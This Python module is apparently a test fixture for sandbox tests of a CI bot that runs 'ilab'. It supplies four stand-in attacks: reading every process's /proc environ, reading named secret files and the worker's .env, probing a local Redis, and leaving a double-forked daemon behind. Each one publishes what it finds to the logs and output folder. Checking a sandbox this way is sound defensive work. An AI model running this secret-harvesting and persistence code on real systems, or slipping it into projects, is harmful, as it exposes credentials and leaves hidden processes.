"""What a hostile `ilab` (or a hostile PR that makes ilab run its code) would try, for the
sandbox tests: `ILAB_STANDIN_MODE=attack-<name>` runs one of these instead of ilab's work.

Every attack prints what it found to stdout and stderr (so it would reach the log, the check
run and the PR comment), writes it into the output folder (so it would be uploaded) and then
fails like ilab does, so the log tail lands in the comment. A line `ATTACK <name>: blocked`
means it found nothing.

  attack-environ  read /proc/<parent>/environ and every /proc/*/environ it can
  attack-files    read the files named in ILAB_STANDIN_ATTACK_PATHS (comma-separated) and the
                  parent's `.env` (through /proc/<parent>/cwd)
  attack-network  connect to ILAB_STANDIN_ATTACK_TARGET (host:port), send a Redis PING
  attack-fork     start a detached grandchild (new session, double fork) that sleeps forever
"""

from __future__ import annotations

import os
import socket
import sys
import time
from collections.abc import Callable, Mapping
from pathlib import Path

ATTACKS = ("attack-environ", "attack-files", "attack-network", "attack-fork")
LEAK = "LEAKED"


def _read(path: Path) -> str | None:
    try:
        return path.read_bytes().decode("utf-8", errors="replace")
    except OSError:
        return None


def environ_attack(env: Mapping[str, str]) -> list[str]:
    """Other processes' environments: the parent first (the worker), then everyone else."""
    found = []
    mine = {f"{k}={v}" for k, v in env.items()}
    pids = [str(os.getppid())] + [p.name for p in Path("/proc").iterdir() if p.name.isdigit()]
    for pid in dict.fromkeys(pids):
        if pid == str(os.getpid()):
            continue
        text = _read(Path("/proc", pid, "environ"))
        for item in (text or "").split("\0"):
            if item and item not in mine:
                found.append(f"pid {pid}: {item}")
    return found


def files_attack(env: Mapping[str, str]) -> list[str]:
    """Named secret files, and the `.env` next to the worker (its working directory)."""
    names = [n for n in env.get("ILAB_STANDIN_ATTACK_PATHS", "").split(",") if n]
    paths = [Path(n) for n in names] + [Path("/proc", str(os.getppid()), "cwd", ".env")]
    found = []
    for path in paths:
        text = _read(path)
        if text:
            found.append(f"{path}: {text!r}")
    return found


def network_attack(env: Mapping[str, str]) -> list[str]:
    """A local service the worker uses (e.g. Redis) from inside ilab."""
    host, _, port = env.get("ILAB_STANDIN_ATTACK_TARGET", "127.0.0.1:6379").rpartition(":")
    try:
        with socket.create_connection((host, int(port)), timeout=5) as conn:
            conn.sendall(b"PING\r\n")
            reply = conn.recv(100).decode(errors="replace").strip()
    except OSError:
        return []
    return [f"connected to {host}:{port}, it answered {reply!r}"]


def fork_attack(env: Mapping[str, str]) -> list[str]:
    """A grandchild in a session of its own that outlives ilab (double fork, like a daemon)."""
    if os.fork() == 0:  # child
        os.setsid()
        if os.fork() == 0:  # grandchild, reparented to init: no one waits for it
            devnull = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(devnull, fd)
            while True:
                time.sleep(3600)
        os._exit(0)
    os.wait()
    return []  # what it proves is whether the grandchild is still alive after the job


ATTACK_FUNCTIONS: dict[str, Callable[[Mapping[str, str]], list[str]]] = {
    "attack-environ": environ_attack,
    "attack-files": files_attack,
    "attack-network": network_attack,
    "attack-fork": fork_attack,
}


def run_attack(mode: str, output_dir: Path | None) -> int:
    """Run the attack, publish what it found everywhere the bot would, fail like ilab."""
    name = mode.removeprefix("attack-")
    found = ATTACK_FUNCTIONS[mode](os.environ)
    lines = [f"{LEAK} {name}: {item}" for item in found] or [f"ATTACK {name}: blocked"]
    text = "\n".join(lines) + "\n"
    sys.stderr.write(text)
    sys.stderr.flush()
    if output_dir is not None:
        try:
            output_dir.mkdir(parents=True, exist_ok=True)
            (output_dir / f"attack_{name}.log").write_text(text, encoding="utf-8")
        except OSError:
            pass
    sys.stdout.write(f"Generating dataset failed with the following error: {text}")
    sys.stdout.flush()
    return 1
